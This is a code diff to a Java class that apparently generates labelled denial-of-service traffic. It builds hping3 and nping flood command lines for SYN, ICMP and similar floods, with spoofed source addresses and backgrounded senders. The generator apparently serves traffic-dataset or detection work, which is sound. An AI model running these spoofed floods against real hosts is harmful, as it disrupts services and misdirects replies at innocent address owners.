@@ -7,6 +7,11 @@ import java.util.Locale;
 final class Flooding {
     private static final int LIMIT_SECONDS = 60;
     private static final int BORROWED = 8;
+    private static final double SPOOFED = 0.4;
+
+    // A flood of echoes has no ports: what makes it many flows are its senders.
+    private static final int[] ICMP_BORROWED = {24, 60, 120};
+    private static final double ICMP_SPOOFED = 0.7;
 
     static final List<Recipe> ALL = List.of(
             flags("syn", "-S"),
@@ -66,10 +71,14 @@ final class Flooding {
     /** So many packets at a drawn rate; with borrowed addresses, each takes a share of them in turn. */
     private static Task flood(Draw draw, String name, String what, String target, String port) {
         boolean nping = draw.tool().equals("nping");
-        boolean spoofed = draw.chance(0.4);
-        int senders = spoofed ? Math.min(BORROWED, draw.size()) : 1;
+        boolean icmp = name.equals("icmp");
+        boolean spoofed = draw.chance(icmp ? ICMP_SPOOFED : SPOOFED);
+        int borrowed = icmp ? ICMP_BORROWED[draw.between(0, ICMP_BORROWED.length - 1)] : BORROWED;
+        int senders = spoofed ? Math.min(borrowed, draw.size()) : 1;
         int each = (draw.size() + senders - 1) / senders;
         int perSecond = draw.oneOf(40, 100, 250, 500);
+        // hping3 waits a second for answers that go to the borrowed addresses' owners: the next sender does not wait.
+        String next = String.format(Locale.ROOT, " & sleep %.3f; ", (double) each / perSecond);
         StringBuilder script = new StringBuilder();
         for (int i = 0; i < senders; i++) {
             String source = spoofed ? draw.borrowedAddress() : "";
@@ -81,8 +90,10 @@ final class Flooding {
                                     + (spoofed ? " -S " + source : "") + " " + target + "; "
                             : "hping3 -q -n" + what + " -i u" + 1_000_000 / perSecond + " -c " + each + " -t "
                                     + draw.client().ttl() + " -N " + draw.between(1, 65_000)
-                                    + (spoofed ? " -a " + source : "") + " " + target + " > /dev/null; ");
+                                    + (spoofed ? " -a " + source : "") + " " + target + " > /dev/null"
+                                    + (spoofed ? next : "; "));
         }
+        script.append(spoofed && !nping ? "wait" : "");
         return new Task(
                 "malicious/dos/" + name + "_flood",
                 nping ? "nping" : "hping3",
